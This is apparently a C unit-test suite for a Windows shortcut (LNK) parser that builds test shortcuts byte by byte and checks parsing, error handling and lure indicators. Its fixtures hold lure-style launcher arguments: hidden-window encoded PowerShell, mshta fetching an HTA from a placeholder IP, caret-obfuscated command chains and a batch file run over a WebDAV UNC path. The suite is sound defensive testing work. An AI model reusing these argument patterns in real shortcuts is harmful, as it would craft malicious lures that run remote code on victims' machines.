/*
 * test_lnk.c - unit tests for lnk.c: Shell Link parsing and LNK lure
 * indicators.  Table-driven: each case describes an inert shortcut
 * (cmd.exe /c echo test, -enc AAAA, 192.0.2.x URLs), a builder here lays
 * out its bytes as MS-SHLLINK does, an optional mutation truncates it or
 * makes one size or offset lie, and the case states the status, the reason,
 * the fields and the indicators expected.  ANSI strings are given as CP932
 * bytes, Unicode ones as UTF-8.
 */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "lnk.h"
#include "testutil.h"

/* Offsets the builder records, for mutations. */
enum field {
	F_HDRSIZE,
	F_CLSID,
	F_IDLIST_SIZE,
	F_ITEM0,
	F_LINKINFO_SIZE,
	F_LBP_OFF,
	F_ARGS_COUNT,
	F_EXTRA0,
	F_END,
	F_MAX
};

enum mut { M_NONE, M_TRUNC, M_PATCH16, M_PATCH32 };

typedef struct spec {
	bool unicode;
	const char *volume;      /* IDList volume item, "C:\\" */
	const char *items[4];    /* IDList file entries */
	const char *lbp;         /* LinkInfo LocalBasePath */
	const char *lbp_unicode; /* LinkInfo LocalBasePathUnicode (UTF-8) */
	const char *net;         /* LinkInfo NetName */
	const char *str[5];      /* NAME RELATIVE_PATH WORKING_DIR ARGS ICON */
	size_t pad;              /* blanks before the arguments */
	const char *env;         /* EnvironmentVariableDataBlock target */
	const char *icon_env;    /* IconEnvironmentDataBlock */
	const char *machine;     /* TrackerDataBlock MachineID */
	uint32_t show;
	size_t trailing; /* bytes after the TerminalBlock */
} spec_t;

typedef struct check {
	size_t field; /* offsetof(lnk_info_t, ...) of a char *, 0 for none */
	const char *want;
} check_t;

#define FIELD(f) offsetof(lnk_info_t, f)
#define CMD_ITEMS                                                              \
	{                                                                      \
		"Windows", "System32", "cmd.exe"                               \
	}
#define SYS32 "C:\\Windows\\System32\\"
#define PS_PATH SYS32 "WindowsPowerShell\\v1.0\\powershell.exe"

static const struct {
	const char *name;
	spec_t s;
	enum mut mut;
	enum field at;
	long delta;   /* M_TRUNC: length = offset of AT + DELTA */
	uint32_t val; /* M_PATCH*: value written at AT */
	emg_status_t st;
	const char *why;    /* substring of the reason */
	const char *target; /* lnk_target(), NULL for none */
	const char *susp;   /* lnk_suspicious(), exact */
	check_t checks[3];
} cases[] = {
    {"cmd-echo-unicode",
     {.unicode = true,
      .volume = "C:\\",
      .items = CMD_ITEMS,
      .str = {NULL, NULL, SYS32, "/c echo test", SYS32 "shell32.dll"}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     SYS32 "cmd.exe",
     "cmd",
     {{FIELD(arguments), "/c echo test"}, {FIELD(working_dir), SYS32}}},
    {"powershell-enc-pdf-icon",
     {.unicode = true,
      .lbp = PS_PATH,
      .show = 7,
      .str = {"Invoice", NULL, NULL, "-nop -w hidden -enc AAAA",
              "C:\\Users\\Public\\invoice.pdf,0"}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     PS_PATH,
     "powershell, -enc, hidden window, document icon, minimized window",
     {{FIELD(name), "Invoice"}}},
    {"mshta-url-ansi",
     {.lbp = SYS32 "mshta.exe",
      .str = {NULL, NULL, NULL, "http://192.0.2.10/a.hta", NULL}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     SYS32 "mshta.exe",
     "mshta, http://",
     {{FIELD(arguments), "http://192.0.2.10/a.hta"}}},
    {"padded-env-target",
     {.unicode = true,
      .env = "%windir%\\system32\\cmd.exe",
      .pad = 1200,
      .str = {NULL, NULL, NULL, "/c echo test", NULL}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "%windir%\\system32\\cmd.exe",
     "cmd, padded arguments (1212 chars)",
     {{0}}},
    {"cp932-name",
     {.lbp = "C:\\\x83\x65\x83\x58\x83\x67\\a.txt",
      .str = {"\x90\xbf\x8b\x81\x8f\x91", NULL, NULL, NULL, NULL}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "C:\\テスト\\a.txt",
     "",
     {{FIELD(name), "請求書"}}},
    {"unicode-linkinfo",
     {.unicode = true, .lbp = "C:\\x.exe", .lbp_unicode = "C:\\請求書\\x.exe"},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "C:\\請求書\\x.exe",
     "",
     {{0}}},
    {"net-share",
     {.unicode = true,
      .net = "\\\\192.0.2.5\\share",
      .str = {NULL, "..\\..\\share\\x.exe", NULL, NULL, NULL}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "\\\\192.0.2.5\\share",
     "\\\\UNC target",
     {{FIELD(net_name), "\\\\192.0.2.5\\share"}}},
    {"tracker-machine",
     {.unicode = true, .lbp = "C:\\app\\app.exe", .machine = "desktop-test01"},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "C:\\app\\app.exe",
     "",
     {{FIELD(machine_id), "desktop-test01"}}},
    {"icon-unc",
     {.unicode = true,
      .lbp = "C:\\app\\app.exe",
      .icon_env = "\\\\192.0.2.7\\ic\\a.ico"},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "C:\\app\\app.exe",
     "\\\\UNC icon",
     {{FIELD(icon_env), "\\\\192.0.2.7\\ic\\a.ico"}}},
    {"carets-and-chain",
     {.unicode = true,
      .volume = "C:\\",
      .items = CMD_ITEMS,
      .str = {NULL, NULL, NULL, "/c p^ower^shell -e AAAA & %TEMP%\\x.vbs",
              NULL}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     SYS32 "cmd.exe",
     "cmd, powershell, -enc, %TEMP%",
     {{0}}},
    {"comspec-unc-args",
     {.unicode = true,
      .env = "%COMSPEC%",
      .str = {NULL, NULL, NULL, "/c \\\\192.0.2.9@SSL\\dav\\a.bat", NULL}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "%COMSPEC%",
     "cmd, \\\\UNC",
     {{0}}},
    {"benign",
     {.unicode = true,
      .volume = "C:\\",
      .items = {"Program Files", "App", "app.exe"},
      .lbp = "C:\\Program Files\\App\\app.exe",
      .str = {"App", NULL, "C:\\Program Files\\App", "--profile work",
              "C:\\Program Files\\App\\app.exe"}},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "C:\\Program Files\\App\\app.exe",
     "",
     {{FIELD(idlist_path), "C:\\Program Files\\App\\app.exe"}}},
    {"trailing-data",
     {.unicode = true, .lbp = "C:\\app\\app.exe", .trailing = 64},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     "C:\\app\\app.exe",
     "data after the end (64 bytes)",
     {{0}}},
    {"header-only",
     {.unicode = false},
     M_NONE,
     0,
     0,
     0,
     EMG_OK,
     NULL,
     NULL,
     "",
     {{0}}},
    /* Damaged and lying inputs. */
    {"short-header",
     {.unicode = true},
     M_TRUNC,
     F_HDRSIZE,
     40,
     0,
     EMG_EPARSE,
     "shorter",
     NULL,
     "",
     {{0}}},
    {"empty",
     {.unicode = true},
     M_TRUNC,
     F_HDRSIZE,
     0,
     0,
     EMG_EPARSE,
     "shorter",
     NULL,
     "",
     {{0}}},
    {"bad-clsid",
     {.unicode = true},
     M_PATCH32,
     F_CLSID,
     0,
     0x12345678,
     EMG_EPARSE,
     "CLSID",
     NULL,
     "",
     {{0}}},
    {"bad-header-size",
     {.unicode = true},
     M_PATCH32,
     F_HDRSIZE,
     0,
     0x50,
     EMG_EPARSE,
     "CLSID",
     NULL,
     "",
     {{0}}},
    {"idlist-size-lies",
     {.unicode = true,
      .volume = "C:\\",
      .items = CMD_ITEMS,
      .str = {NULL, NULL, NULL, "/c echo test", NULL}},
     M_PATCH16,
     F_IDLIST_SIZE,
     0,
     0xFFFF,
     EMG_EPARSE,
     "LinkTargetIDList size",
     SYS32 "cmd.exe",
     "cmd",
     {{FIELD(arguments), NULL}}},
    {"item-size-lies",
     {.unicode = true,
      .volume = "C:\\",
      .items = CMD_ITEMS,
      .str = {NULL, NULL, NULL, "/c echo test", NULL}},
     M_PATCH16,
     F_ITEM0,
     0,
     0xFFF0,
     EMG_EPARSE,
     "ItemID at 0",
     NULL,
     "",
     {{FIELD(arguments), "/c echo test"}}},
    {"item-size-two",
     {.unicode = true,
      .volume = "C:\\",
      .items = CMD_ITEMS,
      .str = {NULL, NULL, NULL, "/c echo test", NULL}},
     M_PATCH16,
     F_ITEM0,
     0,
     2,
     EMG_EPARSE,
     "ItemID at 0",
     NULL,
     "",
     {{FIELD(arguments), "/c echo test"}}},
    {"linkinfo-size-lies",
     {.unicode = true,
      .lbp = SYS32 "cmd.exe",
      .str = {NULL, NULL, NULL, "/c echo test", NULL}},
     M_PATCH32,
     F_LINKINFO_SIZE,
     0,
     0x7FFFFFFF,
     EMG_EPARSE,
     "LinkInfoSize",
     NULL,
     "",
     {{FIELD(arguments), NULL}}},
    {"linkinfo-offset-outside",
     {.unicode = true,
      .lbp = SYS32 "cmd.exe",
      .str = {NULL, NULL, NULL, "/c echo test", NULL}},
     M_PATCH32,
     F_LBP_OFF,
     0,
     0xFFFFFFF0,
     EMG_EPARSE,
     "LocalBasePath offset",
     NULL,
     "",
     {{FIELD(arguments), "/c echo test"}}},
    {"args-count-lies",
     {.unicode = true,
      .lbp = PS_PATH,
      .str = {NULL, NULL, NULL, "-enc AAAA", NULL}},
     M_PATCH16,
     F_ARGS_COUNT,
     0,
     0xFFFF,
     EMG_EPARSE,
     "COMMAND_LINE_ARGUMENTS: 65535",
     PS_PATH,
     "powershell, -enc, long arguments (65535 chars)",
     /* The TerminalBlock's NULs become visible. */
     {{FIELD(arguments), "-enc AAAA\xef\xbf\xbd\xef\xbf\xbd"}}},
    {"truncated-in-args",
     {.unicode = true,
      .lbp = PS_PATH,
      .str = {NULL, NULL, NULL, "-enc AAAA http://192.0.2.1/", NULL}},
     M_TRUNC,
     F_ARGS_COUNT,
     2 + 2 * 9,
     0,
     EMG_EPARSE,
     "bytes left",
     PS_PATH,
     "powershell, -enc",
     {{FIELD(arguments), "-enc AAAA"}}},
    {"truncated-odd-byte",
     {.unicode = true,
      .lbp = PS_PATH,
      .str = {NULL, NULL, NULL, "-enc AAAA", NULL}},
     M_TRUNC,
     F_ARGS_COUNT,
     2 + 2 * 4 + 1,
     0,
     EMG_EPARSE,
     "bytes left",
     PS_PATH,
     "powershell, -enc",
     {{FIELD(arguments), "-enc"}}},
    {"extra-size-lies",
     {.unicode = true, .env = "%windir%\\system32\\cmd.exe"},
     M_PATCH32,
     F_EXTRA0,
     0,
     0xFFFFFF,
     EMG_EPARSE,
     "ExtraData block size",
     NULL,
     "",
     {{0}}},
    {"extra-size-wrong",
     {.unicode = true, .env = "%windir%\\system32\\cmd.exe"},
     M_PATCH32,
     F_EXTRA0,
     0,
     0x100,
     EMG_EPARSE,
     "want 788",
     NULL,
     "data after the end (532 bytes)",
     {{0}}},
    {"extra-size-five",
     {.unicode = true, .env = "%windir%\\system32\\cmd.exe"},
     M_PATCH32,
     F_EXTRA0,
     0,
     5,
     EMG_EPARSE,
     "ExtraData block size 5",
     NULL,
     "",
     {{0}}},
    {"no-terminal-block",
     {.unicode = true, .lbp = "C:\\app\\app.exe"},
     M_TRUNC,
     F_END,
     -4,
     0,
     EMG_OK,
     NULL,
     "C:\\app\\app.exe",
     "",
     {{0}}},
    {"stray-bytes",
     {.unicode = true, .lbp = "C:\\app\\app.exe"},
     M_TRUNC,
     F_END,
     -2,
     0,
     EMG_EPARSE,
     "stray",
     "C:\\app\\app.exe",
     "",
     {{0}}},
};

/* ---- the builder ------------------------------------------------------- */

typedef struct tb {
	uint8_t *d;
	size_t n, cap;
	size_t at[F_MAX];
} tb_t;

static void
tb_put(tb_t *b, const void *p, size_t len)
{
	if (b->n + len > b->cap) {
		b->cap = (b->n + len) * 2 + 64;
		b->d = realloc(b->d, b->cap);
		ck_assert_ptr_nonnull(b->d);
	}
	if (len > 0)
		memcpy(b->d + b->n, p, len);
	b->n += len;
}

static void
tb_u16(tb_t *b, uint16_t v)
{
	uint8_t x[2] = {(uint8_t)v, (uint8_t)(v >> 8)};
	tb_put(b, x, 2);
}

static void
tb_u32(tb_t *b, uint32_t v)
{
	tb_u16(b, (uint16_t)v);
	tb_u16(b, (uint16_t)(v >> 16));
}

static void
tb_zero(tb_t *b, size_t len)
{
	for (size_t i = 0; i < len; i++)
		tb_put(b, "", 1);
}

static void
set_u16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
}

static void
set_u32(uint8_t *p, uint32_t v)
{
	set_u16(p, (uint16_t)v);
	set_u16(p + 2, (uint16_t)(v >> 16));
}

/* UTF-8 S as UTF-16LE code units into B; returns the unit count. */
static size_t
tb_utf16(tb_t *b, const char *s)
{
	const unsigned char *u = (const unsigned char *)s;
	size_t units = 0;

	while (*u != '\0') {
		uint32_t cp;
		if (u[0] < 0x80) {
			cp = *u++;
		} else if (u[0] < 0xE0) {
			cp = ((u[0] & 0x1Fu) << 6) | (u[1] & 0x3Fu);
			u += 2;
		} else if (u[0] < 0xF0) {
			cp = ((u[0] & 0x0Fu) << 12) | ((u[1] & 0x3Fu) << 6) |
			     (u[2] & 0x3Fu);
			u += 3;
		} else {
			cp = ((u[0] & 0x07u) << 18) | ((u[1] & 0x3Fu) << 12) |
			     ((u[2] & 0x3Fu) << 6) | (u[3] & 0x3Fu);
			u += 4;
		}
		if (cp >= 0x10000) {
			tb_u16(b, (uint16_t)(0xD800 + ((cp - 0x10000) >> 10)));
			cp = 0xDC00 + ((cp - 0x10000) & 0x3FF);
			units++;
		}
		tb_u16(b, (uint16_t)cp);
		units++;
	}
	return units;
}

static size_t
utf16_units(const char *s)
{
	tb_t tmp = {0};
	size_t n = tb_utf16(&tmp, s);
	free(tmp.d);
	return n;
}

static void
build_header(tb_t *b, const spec_t *s, uint32_t flags)
{
	static const uint8_t clsid[16] = {0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
	                                  0xC0, 0,    0,    0, 0, 0, 0, 0x46};
	b->at[F_HDRSIZE] = b->n;
	tb_u32(b, 0x4C);
	b->at[F_CLSID] = b->n;
	tb_put(b, clsid, 16);
	tb_u32(b, flags);
	tb_u32(b, 0x20); /* FILE_ATTRIBUTE_ARCHIVE */
	tb_zero(b, 24);  /* times */
	tb_u32(b, 1234); /* FileSize */
	tb_u32(b, 0);    /* IconIndex */
	tb_u32(b, s->show ? s->show : 1);
	tb_zero(b, 2 + 10); /* HotKey, reserved */
	ck_assert_uint_eq(b->n, 0x4C);
}

/* A file entry shell item: 8.3 name, then a version 9 0xBEEF0004 block
 * holding the long name, as Explorer writes them. */
static void
build_file_item(tb_t *b, const char *name, bool dir)
{
	tb_t it = {0};
	size_t ext;

	tb_u16(&it, 0); /* size, set below */
	tb_put(&it, dir ? "\x31" : "\x32", 1);
	tb_zero(&it, 1 + 4 + 4);
	tb_u16(&it, dir ? 0x10 : 0x20);
	tb_put(&it, "SHORT~1", 8); /* the 8.3 name, NUL included */
	if (it.n % 2)
		tb_zero(&it, 1);
	ext = it.n;
	tb_u16(&it, 0); /* ext size, set below */
	tb_u16(&it, 9);
	tb_u32(&it, 0xBEEF0004u);
	tb_zero(&it, 4 + 4 + 2 + 2 + 8 + 8 + 2 + 4 + 4);
	tb_utf16(&it, name);
	tb_u16(&it, 0);
	tb_u16(&it, (uint16_t)ext); /* first extension block offset */
	set_u16(it.d + ext, (uint16_t)(it.n - ext));
	set_u16(it.d, (uint16_t)it.n);
	tb_put(b, it.d, it.n);
	free(it.d);
}

static void
build_idlist(tb_t *b, const spec_t *s)
{
	size_t start = b->n, k;

	b->at[F_IDLIST_SIZE] = b->n;
	tb_u16(b, 0);
	b->at[F_ITEM0] = b->n;
	/* Root: My Computer. */
	tb_u16(b, 0x14);
	tb_put(b,
	       "\x1f\x50\xe0\x4f\xd0\x20\xea\x3a\x69\x10\xa2\xd8\x08\x00"
	       "\x2b\x30\x30\x9d",
	       18);
	if (s->volume != NULL) {
		tb_u16(b, 0x19);
		tb_put(b, "\x2f", 1);
		tb_put(b, s->volume, strlen(s->volume));
		tb_zero(b, 0x19 - 3 - strlen(s->volume));
	}
	for (k = 0; k < 4 && s->items[k] != NULL; k++)
		build_file_item(b, s->items[k], k + 1 < 4 && s->items[k + 1]);
	tb_u16(b, 0);
	set_u16(b->d + start, (uint16_t)(b->n - start - 2));
}

static void
build_link_info(tb_t *b, const spec_t *s)
{
	size_t li = b->n, hdr = s->lbp_unicode ? 0x24 : 0x1C;
	uint32_t fl = (s->lbp ? 1u : 0u) | (s->net ? 2u : 0u);

	b->at[F_LINKINFO_SIZE] = b->n;
	tb_u32(b, 0);
	tb_u32(b, (uint32_t)hdr);
	tb_u32(b, fl);
	tb_zero(b, hdr - 12); /* offsets, set below */
	b->at[F_LBP_OFF] = li + 16;
	if (s->lbp != NULL) {
		set_u32(b->d + li + 12, (uint32_t)(b->n - li));
		tb_u32(b,
		       0x11); /* VolumeID: size, DRIVE_FIXED, serial, label */
		tb_u32(b, 3);
		tb_u32(b, 0x1234ABCD);
		tb_u32(b, 0x10);
		tb_zero(b, 1);
		set_u32(b->d + li + 16, (uint32_t)(b->n - li));
		tb_put(b, s->lbp, strlen(s->lbp) + 1);
	}
	if (s->net != NULL) {
		set_u32(b->d + li + 20, (uint32_t)(b->n - li));
		tb_u32(b, (uint32_t)(0x14 + strlen(s->net) + 1));
		tb_u32(b, 0);    /* no ValidDevice */
		tb_u32(b, 0x14); /* NetNameOffset */
		tb_u32(b, 0);
		tb_u32(b, 0x00020000); /* WNNC_NET_LANMAN */
		tb_put(b, s->net, strlen(s->net) + 1);
	}
	set_u32(b->d + li + 24, (uint32_t)(b->n - li));
	tb_zero(b, 1); /* CommonPathSuffix "" */
	if (s->lbp_unicode != NULL) {
		set_u32(b->d + li + 28, (uint32_t)(b->n - li));
		tb_utf16(b, s->lbp_unicode);
		tb_u16(b, 0);
	}
	set_u32(b->d + li, (uint32_t)(b->n - li));
}

static void
build_strings(tb_t *b, const spec_t *s)
{
	for (int i = 0; i < 5; i++) {
		const char *v = s->str[i];
		size_t pad = i == 3 ? s->pad : 0;
		if (v == NULL)
			continue;
		if (i == 3)
			b->at[F_ARGS_COUNT] = b->n;
		if (s->unicode) {
			tb_u16(b, (uint16_t)(utf16_units(v) + pad));
			for (size_t k = 0; k < pad; k++)
				tb_u16(b, ' ');
			tb_utf16(b, v);
		} else {
			tb_u16(b, (uint16_t)(strlen(v) + pad));
			for (size_t k = 0; k < pad; k++)
				tb_put(b, " ", 1);
			tb_put(b, v, strlen(v));
		}
	}
}

/* An environment-style block: ANSI copy and Unicode copy of S. */
static void
build_env_block(tb_t *b, uint32_t sig, const char *s)
{
	size_t start = b->n;

	tb_u32(b, 0x314);
	tb_u32(b, sig);
	tb_put(b, s, strlen(s));
	tb_zero(b, 260 - strlen(s));
	tb_utf16(b, s);
	tb_zero(b, start + 0x314 - b->n);
}

static void
build_extra(tb_t *b, const spec_t *s)
{
	b->at[F_EXTRA0] = b->n;
	if (s->env != NULL)
		build_env_block(b, 0xA0000001u, s->env);
	if (s->icon_env != NULL)
		build_env_block(b, 0xA0000007u, s->icon_env);
	if (s->machine != NULL) {
		size_t start = b->n;
		tb_u32(b, 0x60);
		tb_u32(b, 0xA0000003u);
		tb_u32(b, 0x58);
		tb_u32(b, 0);
		tb_put(b, s->machine, strlen(s->machine));
		tb_zero(b, start + 0x60 - b->n);
	}
	tb_u32(b, 0); /* TerminalBlock */
	b->at[F_END] = b->n;
	for (size_t i = 0; i < s->trailing; i++)
		tb_put(b, "Z", 1);
}

static void
build(tb_t *b, const spec_t *s)
{
	uint32_t flags = s->unicode ? LNK_IS_UNICODE : 0;

	if (s->volume || s->items[0])
		flags |= LNK_HAS_TARGET_IDLIST;
	if (s->lbp || s->net)
		flags |= LNK_HAS_LINK_INFO;
	for (int i = 0; i < 5; i++)
		if (s->str[i] != NULL)
			flags |= LNK_HAS_NAME << i;
	if (s->env)
		flags |= LNK_HAS_EXP_STRING;
	build_header(b, s, flags);
	if (flags & LNK_HAS_TARGET_IDLIST)
		build_idlist(b, s);
	if (flags & LNK_HAS_LINK_INFO)
		build_link_info(b, s);
	build_strings(b, s);
	build_extra(b, s);
}

/* ---- the tests ----------------------------------------------------------- */

START_TEST(test_parse)
{
	tb_t b = {0};
	lnk_info_t info;
	char why[256], susp[512];
	size_t n;

	build(&b, &cases[_i].s);
	n = b.n;
	if (cases[_i].mut == M_TRUNC)
		n = (size_t)((long)b.at[cases[_i].at] + cases[_i].delta);
	else if (cases[_i].mut == M_PATCH16)
		set_u16(b.d + b.at[cases[_i].at], (uint16_t)cases[_i].val);
	else if (cases[_i].mut == M_PATCH32)
		set_u32(b.d + b.at[cases[_i].at], cases[_i].val);
	ck_assert_uint_le(n, b.n);
	/* An exact-size copy, so that ASan sees any read past the end. */
	uint8_t *d = malloc(n ? n : 1);
	memcpy(d, b.d, n);
	emg_status_t st = lnk_parse(d, n, &info, why, sizeof(why));
	ck_assert_msg(st == cases[_i].st, "%s: status %s (%s)", cases[_i].name,
	              emg_strerror(st), why);
	if (cases[_i].why != NULL)
		ck_assert_msg(strstr(why, cases[_i].why) != NULL,
		              "%s: why \"%s\"", cases[_i].name, why);
	else
		ck_assert_str_eq(why, "");
	ck_assert_int_eq(lnk_is_shortcut(d, n),
	                 cases[_i].mut == M_NONE || cases[_i].at > F_CLSID);
	const char *t = lnk_target(&info);
	if (cases[_i].target == NULL)
		ck_assert_msg(t == NULL, "%s: target %s", cases[_i].name, t);
	else
		ck_assert_msg(t != NULL && strcmp(t, cases[_i].target) == 0,
		              "%s: target \"%s\"", cases[_i].name,
		              t ? t : "(null)");
	lnk_suspicious(&info, susp, sizeof(susp));
	ck_assert_msg(strcmp(susp, cases[_i].susp) == 0,
	              "%s: suspicious \"%s\"", cases[_i].name, susp);
	for (int k = 0; k < 3 && cases[_i].checks[k].field != 0; k++) {
		const char *got =
		    *(char **)((char *)&info + cases[_i].checks[k].field);
		const char *want = cases[_i].checks[k].want;
		ck_assert_msg(want ? got && strcmp(got, want) == 0
		                   : got == NULL,
		              "%s: field %zu is \"%s\"", cases[_i].name,
		              cases[_i].checks[k].field, got ? got : "(null)");
	}
	lnk_info_free(&info);
	ck_assert_ptr_null(info.arguments);
	free(d);
	free(b.d);
}
END_TEST

/* A 40,000-character argument string is cut at LNK_MAX_STRING bytes. */
START_TEST(test_long_arguments)
{
	spec_t s = {.unicode = true, .lbp = SYS32 "cmd.exe"};
	char *args = malloc(40001);
	tb_t b = {0};
	lnk_info_t info;
	char susp[256];

	memset(args, 'A', 40000);
	args[40000] = '\0';
	s.str[3] = args;
	build(&b, &s);
	ck_assert_int_eq(lnk_parse(b.d, b.n, &info, NULL, 0), EMG_OK);
	ck_assert(info.truncated);
	ck_assert_uint_eq(info.arguments_chars, 40000);
	ck_assert_uint_le(strlen(info.arguments), LNK_MAX_STRING);
	ck_assert_uint_eq(lnk_suspicious(&info, susp, sizeof(susp)), 2);
	ck_assert_str_eq(susp, "cmd, long arguments (40000 chars)");
	lnk_info_free(&info);
	free(args);
	free(b.d);
}
END_TEST

/* The indicator list is cut at an item boundary, and still counted. */
START_TEST(test_suspicious_buffer)
{
	lnk_info_t info = {0};
	char buf[64];

	info.arguments = "-enc AAAA http://192.0.2.1/";
	info.local_base_path = PS_PATH;
	ck_assert_uint_eq(lnk_suspicious(&info, buf, 11), 3);
	ck_assert_str_eq(buf, "powershell");
	ck_assert_uint_eq(lnk_suspicious(&info, buf, 10), 3);
	ck_assert_str_eq(buf, "");
	ck_assert_uint_eq(lnk_suspicious(&info, NULL, 0), 3);
	ck_assert_uint_eq(lnk_suspicious(&info, buf, sizeof(buf)), 3);
	ck_assert_str_eq(buf, "powershell, -enc, http://");
	/* Words that merely contain a program name are no program. */
	info.local_base_path = "C:\\tools\\cmdlets\\xcurls.exe";
	info.arguments = "--shh -encoding utf8 -execute";
	ck_assert_uint_eq(lnk_suspicious(&info, buf, sizeof(buf)), 0);
}
END_TEST

START_TEST(test_bad_arguments)
{
	lnk_info_t info;
	char why[8];

	ck_assert_int_eq(lnk_parse(NULL, 0, NULL, NULL, 0), EMG_EINVAL);
	ck_assert_int_eq(lnk_parse(NULL, 5, &info, NULL, 0), EMG_EINVAL);
	ck_assert_int_eq(lnk_parse(NULL, 0, &info, why, sizeof(why)),
	                 EMG_EPARSE);
	ck_assert_uint_lt(strlen(why), sizeof(why)); /* reason is cut */
	lnk_info_free(&info);
	ck_assert(!lnk_is_shortcut(NULL, 0));
	ck_assert(!lnk_is_shortcut((const uint8_t *)"L\0\0\0", 4));
}
END_TEST

#define N(a) ((int)(sizeof(a) / sizeof((a)[0])))

int
main(void)
{
	Suite *s = suite_create("lnk");
	TCase *tc = tcase_create("core");

	tcase_set_timeout(tc, 60);
	tcase_add_loop_test(tc, test_parse, 0, N(cases));
	tcase_add_test(tc, test_long_arguments);
	tcase_add_test(tc, test_suspicious_buffer);
	tcase_add_test(tc, test_bad_arguments);
	suite_add_tcase(s, tc);
	return tu_run_suite(s);
}
